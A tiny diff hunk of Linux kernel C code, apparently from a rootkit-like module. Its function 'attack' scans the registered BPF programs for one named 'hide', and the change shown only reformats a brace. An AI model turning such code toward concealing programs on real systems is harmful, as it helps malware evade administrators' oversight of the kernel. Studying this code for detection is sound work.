@@ -23,7 +23,8 @@ static int attack(void)
 	if (!programs || !lock)
 		return -ENOENT;
 	spin_lock_bh(lock);
-	idr_for_each_entry(programs, program, id) {
+	idr_for_each_entry(programs, program, id)
+	{
 		if (!strcmp(program->aux->name, "hide")) {
 			hidden = program;
 			number = id;
